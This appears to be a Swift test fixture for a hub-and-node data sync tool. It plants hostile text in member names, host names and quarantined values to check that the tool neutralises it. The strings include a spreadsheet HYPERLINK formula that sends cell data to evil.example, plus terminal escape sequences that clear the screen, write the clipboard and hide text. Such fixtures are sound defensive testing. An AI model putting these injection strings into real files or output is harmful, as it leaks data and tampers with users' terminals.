import FerryCore
import FerryHub
import FerryNode
import FerryStore
import FerryTestSupport
import FerryTrust
import FerryWire
import Foundation

/// A hub and one unit's node whose conflicts, quarantine and node record hold text a
/// hostile unit wrote: a spreadsheet formula, terminal escape sequences (clear the screen,
/// write the clipboard, ring the bell) and a one-byte CSI. Built in-process, then closed,
/// so that tests can point the real `ferry` command (or a real hub process) at it.
struct UnitWrittenText {
    /// A member's name as the unit wrote it: a formula that would call out when the CSV is
    /// opened, followed by escape sequences that would act on a terminal.
    static let hostileName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")\u{1B}[2J\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}31m"
    /// The node's host name as it enrolled.
    static let hostileHost = "box\u{1B}]0;owned\u{07}\u{1B}[8m"
    /// A refused value that lands in the hub's quarantine.
    static let hostileStatus = "@SUM(1+1)\u{1B}[31mretired"
    /// The unit's own edit that loses to the hub's at the node.
    static let hostileLocal = "-2+3\u{1B}[1A\u{1B}[2K"

    let dir: TemporaryDirectory
    var hubDir: String { dir.file("hub") }
    var nodeDir: String { dir.file("node") }
    let nodeID: String

    /// `conflicts: false` builds the same hub and node with nothing set aside yet.
    init(conflicts: Bool = true) throws {
        dir = try TemporaryDirectory("ferry-unit-text")
        let clock = ManualClock()
        let text = try String(contentsOfFile: Repository.path("Tests/Fixtures/test-standard.toml"), encoding: .utf8)
        let hub = try Hub(directory: dir.file("hub"), standard: text, clock: clock)
        _ = try hub.addUnit(OrgUnit(id: "prov", name: "省", parentID: nil, level: .province, industry: nil, region: nil))
        let token = try hub.addUnit(OrgUnit(id: "u-a", name: "甲单位", parentID: "prov", level: .unit, industry: "medical", region: nil))
        let key = SigningKey()
        let answer = try hub.enrol(EnrolRequest(token: EnrolmentToken(parsing: token)!, key: key, hostname: Self.hostileHost))
        nodeID = answer.nodeID
        try FileManager.default.createDirectory(atPath: dir.file("node"), withIntermediateDirectories: true)
        try text.write(toFile: dir.file("node/standard.toml"), atomically: true, encoding: .utf8)
        try NodeIdentity(
            hubURL: "http://127.0.0.1:9", nodeID: answer.nodeID, unitID: "u-a", unitName: "甲单位", hubNodeID: answer.hubNodeID,
            hubPublicKey: answer.hubPublicKey, privateKey: key.base64, gzip: false
        ).save(directory: dir.file("node"))
        let unit = try ReplicaStore(
            path: dir.file("node/unit.db"), standard: hub.store.standard,
            identity: ReplicaIdentity(node: NodeID(unchecked: answer.nodeID), role: .unit("u-a")), clock: clock)
        defer {
            try? unit.close()
            try? hub.store.close()
        }
        let node = NodeID(unchecked: answer.nodeID)
        func push(tamper: ((inout Changeset) -> Void)? = nil) throws {
            while var cs = try unit.extract(for: Peer(id: hub.nodeID, direction: .upstream), maxBytes: 1 << 20) {
                tamper?(&cs)
                try hub.store.apply(cs, sender: .unit("u-a"), quarantine: true)
                try unit.acknowledge(cs.batch, from: hub.nodeID)
            }
        }
        func pull() throws {
            while let cs = try hub.store.extract(for: Peer(id: node, direction: .downstream(unit: "u-a")), maxBytes: 1 << 20) {
                try unit.apply(cs, sender: .trusted)
                try hub.store.acknowledge(cs.batch, from: node)
            }
        }
        try unit.execute("INSERT INTO member (id, unit_id, name) VALUES ('m1', 'u-a', '王芳'), ('m2', 'u-a', '李娜')")
        try push()
        try pull()
        guard conflicts else { return }
        // At the hub: the unit's hostile name loses to the supervisor's later correction.
        // Each write is stamped as it is made, so the injected clock orders them.
        try unit.execute("UPDATE member SET name = ? WHERE id = 'm1'", [.text(Self.hostileName)])
        try unit.stampPendingChanges()
        clock.advance(by: 1000)
        try hub.store.execute("UPDATE member SET name = '王芳（已核对）' WHERE id = 'm1'")
        try hub.store.stampPendingChanges()
        clock.advance(by: 1000)
        try push()
        // At the node: the clerk's own edit loses to a later one from the hub.
        try pull()
        try unit.execute("UPDATE member SET note = ? WHERE id = 'm2'", [.text(Self.hostileLocal)])
        try unit.stampPendingChanges()
        clock.advance(by: 1000)
        try hub.store.execute("UPDATE member SET note = '核' WHERE id = 'm2'")
        try hub.store.stampPendingChanges()
        clock.advance(by: 1000)
        try pull()
        // A value the standard refuses, as a tampered node would send it.
        try unit.execute("UPDATE member SET status = 'probationary' WHERE id = 'm2'")
        try push { cs in
            for t in cs.tables.indices where cs.tables[t].name == "member" {
                for r in cs.tables[t].rows.indices {
                    cs.tables[t].rows[r].cells = cs.tables[t].rows[r].cells.map {
                        $0.column == "status" ? CellChange(column: "status", value: .text(Self.hostileStatus), version: $0.version) : $0
                    }
                }
            }
        }
    }

    func remove() { dir.remove() }
}
